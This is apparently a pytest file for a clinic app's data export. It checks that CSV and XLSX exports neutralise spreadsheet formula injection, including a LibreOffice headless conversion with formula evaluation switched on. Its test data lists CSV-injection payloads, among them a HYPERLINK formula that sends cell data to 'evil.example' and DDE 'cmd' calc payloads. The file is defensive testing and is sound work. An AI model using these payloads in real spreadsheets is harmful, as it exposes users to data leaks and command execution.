"""Issue 14, problems 3 and 4: the clinic export is safe to open in a spreadsheet. Checked with
LibreOffice itself (soffice --headless converts the exported CSV with formula evaluation on; openpyxl
reads the result back) and with openpyxl on the .xlsx export."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import subprocess
from datetime import date

import pytest
from PIL import Image

from mesodesk.interop.clinic_export import export_clinic, neutralise_formula, restore_formula_text

INJECTIONS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
]


def jpeg() -> bytes:
    out = io.BytesIO()
    Image.effect_noise((400, 300), 80).convert("RGB").save(out, "JPEG", quality=95)
    return out.getvalue()


@pytest.fixture
def risky_clinic(sqlite_clinic):
    c = sqlite_clinic
    ids = []
    for i, text in enumerate(INJECTIONS):
        p = c.patient(
            f"Eve{i}", text.strip() or "x", date(1980, 1, 1 + i), phone=f"+33 6 12 34 56 {70 + i}", notes=text
        )
        ids.append(p.id)
    c.patient("Plain", "Phone", date(1981, 1, 1), phone="+33612345678", notes="'already quoted")
    photo = jpeg() * 3  # well over LibreOffice's 65,535 characters once base64
    c.as_practitioner.photos.add(ids[0], photo, "IMG_1.JPG", "before", "cheeks", date.today())
    c.photo_bytes = photo
    from sqlalchemy import select

    from mesodesk.db.models import Patient

    with c.engine.connect() as conn:
        c.notes = sorted(conn.scalars(select(Patient.notes)).all())  # as the service stored them
    assert any(n.startswith("=") for n in c.notes) and "'already quoted" in c.notes
    return c


@pytest.mark.parametrize(
    "text, cell",
    [
        ("=1+1", "'=1+1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("-1-1", "'-1-1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'x", "''x"),
        ("+33 6 12 34 56 78", "+33 6 12 34 56 78"),  # a phone stays readable
        ("+1 (555) 010-4477", "+1 (555) 010-4477"),
        ("+33612345678", "'+33612345678"),  # else a spreadsheet makes it the number 33612345678
        ("Hélène", "Hélène"),
    ],
)
def test_neutralise_formula_round_trips(text, cell):
    assert neutralise_formula(text) == cell
    assert restore_formula_text(cell) == text


def test_csv_export_bom_local_times_photos_as_files(risky_clinic, tmp_path):
    out = tmp_path / "export"
    export_clinic(risky_clinic.services, out)
    raw = (out / "patients.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    with open(out / "patients.csv", encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    for row in rows:
        for key, value in row.items():
            assert not (
                value[:1] in ("=", "+", "-", "@", "\t", "\r") and not value.startswith("+33 6 12 34 56 7")
            ), (
                key,
                value,
            )
        assert re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d", row["created_at"]), row["created_at"]
    notes = sorted(restore_formula_text(r["notes"]) for r in rows)
    assert notes == risky_clinic.notes
    with open(out / "photos.csv", encoding="utf-8-sig", newline="") as fh:
        (photo,) = list(csv.DictReader(fh))
    assert photo["data"].endswith(".jpg") and photo["thumbnail_png"].endswith(".png")
    assert (out / photo["data"]).read_bytes() == risky_clinic.photo_bytes
    assert max(len(v) for v in photo.values()) < 1000  # no cell a spreadsheet would cut
    manifest = json.loads((out / "manifest.json").read_text(encoding="utf-8"))
    assert manifest["binary_encoding"] == "file" and manifest["times"]["zone"] == "local"
    assert "." not in manifest["exported_at"]  # no microseconds


@pytest.mark.skipif(not shutil.which("soffice"), reason="LibreOffice (soffice) not installed")
def test_libreoffice_opens_the_export_with_no_formula_cell(risky_clinic, tmp_path):
    from openpyxl import load_workbook

    out = tmp_path / "export"
    export_clinic(risky_clinic.services, out)
    converted = tmp_path / "converted"
    names = ["patients", "photos", "audit_entries"]
    # CSV import options: ',', '"', UTF-8, from line 1, ..., "evaluate formulas" on (the worst case)
    subprocess.run(
        [
            "soffice",
            f"-env:UserInstallation=file://{tmp_path / 'lo-profile'}",
            "--headless",
            "--infilter=CSV:44,34,76,1,,1033,false,false,false,false,false,-1,true",
            "--convert-to",
            "xlsx",
            "--outdir",
            str(converted),
            *[str(out / f"{n}.csv") for n in names],
        ],
        check=True,
        capture_output=True,
        timeout=300,
    )
    for name in names:
        book = load_workbook(converted / f"{name}.xlsx")  # formulas kept as formulas, if any
        sheet = book.active
        formulas = [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
        assert formulas == [], (name, formulas)
        if name == "patients":
            header = [c.value for c in sheet[1]]
            phones = [r[header.index("phone")].value for r in sheet.iter_rows(min_row=2)]
            assert sorted(p for p in phones if p and p.startswith("+33 6 12 34 56 7")) == [
                f"+33 6 12 34 56 {70 + i}" for i in range(len(INJECTIONS))
            ]
            assert "'+33612345678" in phones or "+33612345678" in phones
            assert header[0] == "id"  # the BOM was read as a BOM


def test_xlsx_export_has_text_cells_and_no_formula(risky_clinic, tmp_path):
    from openpyxl import load_workbook

    out = tmp_path / "export"
    counts = export_clinic(risky_clinic.services, out, fmt="xlsx")
    book = load_workbook(out / "clinic.xlsx")
    assert set(book.sheetnames) == {t[:31] for t in counts}
    sheet = book["patients"]
    header = [c.value for c in sheet[1]]
    notes = [r[header.index("notes")].value for r in sheet.iter_rows(min_row=2)]
    assert sorted(n or "" for n in notes) == risky_clinic.notes  # exact values, no apostrophe
    for name in book.sheetnames:
        assert not [c for row in book[name].iter_rows() for c in row if c.data_type == "f"], name
    photos = book["photos"]
    ph = [c.value for c in photos[1]]
    row = next(photos.iter_rows(min_row=2))
    assert (out / row[ph.index("data")].value).read_bytes() == risky_clinic.photo_bytes


def test_export_command_xlsx(tmp_path, capsys):
    from mesodesk.cli import main

    db = str(tmp_path / "c.sqlite3")
    assert main(["--db", db, "demo", "--patients", "5"]) == 0
    assert main(["--db", db, "export", "clinic", "-o", str(tmp_path / "x"), "--format", "xlsx"]) == 0
    assert (tmp_path / "x" / "clinic.xlsx").is_file()
    assert "clinic.xlsx, sheet patients" in capsys.readouterr().out
